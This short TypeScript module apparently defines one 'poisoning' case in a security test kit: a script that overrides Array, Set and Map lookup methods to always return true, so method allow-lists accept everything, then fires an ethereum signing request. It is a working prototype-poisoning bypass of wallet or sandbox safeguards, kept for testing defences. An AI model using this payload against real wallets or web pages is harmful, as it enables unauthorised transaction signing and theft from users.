import type { Attack } from './kit/attack.ts'

export default {
  family: 'poisoning',
  how: "Replaces Array's methods and iterator, so that lists of allowed methods hold every method.",
  script: `
    Array.prototype.includes = () => true
    Array.prototype.indexOf = () => 0
    Array.prototype.some = () => true
    Array.prototype.every = () => true
    Array.prototype.find = (test) => true
    Set.prototype.has = () => true
    Map.prototype.has = () => true
    ethereum.request(attack.sign)
    await attack.sleep(200)
  `,
} satisfies Attack
